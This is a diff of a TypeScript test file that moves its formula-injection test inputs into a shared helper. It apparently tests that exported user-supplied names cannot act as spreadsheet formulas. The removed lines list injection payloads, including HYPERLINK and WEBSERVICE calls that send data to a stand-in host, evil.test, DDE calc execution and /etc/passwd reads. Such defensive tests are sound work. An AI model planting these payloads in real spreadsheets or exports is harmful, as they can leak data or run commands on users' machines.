@@ -9,59 +9,10 @@ import { buildBenchmark, buildCourse, buildLesson, buildStudyProject } from '../
 import { buildUser } from '../../../../seed/people.ts';
 import { addGroupMember, buildGroup, buildLicense } from '../../../../seed/school.ts';
 import { howMany, longTest } from '../../../../test/deep.ts';
+import { formulaNames } from '../../../../test/formula-names.ts';
 import { testServer, type TestServer } from '../../../../test/harness.ts';
 
-const leaders = [
-  '=',
-  '+',
-  '-',
-  '@',
-  '\t=',
-  '\r=',
-  '\n=',
-  ' =',
-  '＝',
-  '＋',
-  '－',
-  '＠',
-  "'=",
-  '"=',
-  '==',
-  '=+',
-  '-+',
-  '@@',
-  '\u00a0=',
-  '\ufeff=',
-];
-const bodies = [
-  '1+1',
-  'SUM(1;1)',
-  'A1',
-  '2*3*7',
-  'HYPERLINK("http://evil.test/?"&B2;"open")',
-  'WEBSERVICE("http://evil.test/")',
-  "cmd|' /C calc'!A0",
-  'DDE("soffice";"/etc/passwd";"A1")',
-  'IMPORTXML("http://evil.test";"//a")',
-  'NOW()',
-  'INFO("osversion")',
-  'ROW()',
-  'IF(TRUE();"run";"")',
-  'CONCATENATE("ru";"n")',
-  'CHAR(114)',
-  'TODAY()',
-  'RAND()',
-  '0.5e3',
-  '$B$2',
-  "file:///etc/passwd'#$passwd.A1",
-  '{1;2}',
-  'EXEC("calc")',
-  'CALL("a";"b")',
-  '1,2',
-  '1/2/2026',
-];
-const all = leaders.flatMap((leader) => bodies.map((body) => `${leader}${body}`));
-const names = all.filter((_, at) => at % Math.ceil(all.length / howMany({ sample: 50, deep: 500 })) === 0);
+const names = formulaNames();
 
 let server: TestServer;
 let file: Buffer;
